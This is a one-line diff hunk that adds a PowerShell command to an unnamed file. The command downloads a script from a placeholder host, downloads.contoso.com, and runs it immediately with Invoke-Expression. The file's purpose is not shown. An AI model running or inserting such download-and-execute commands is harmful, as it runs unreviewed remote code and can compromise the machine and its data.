@@ -1,0 +1,1 @@
+Invoke-Expression (Invoke-RestMethod https://downloads.contoso.com/go.ps1)
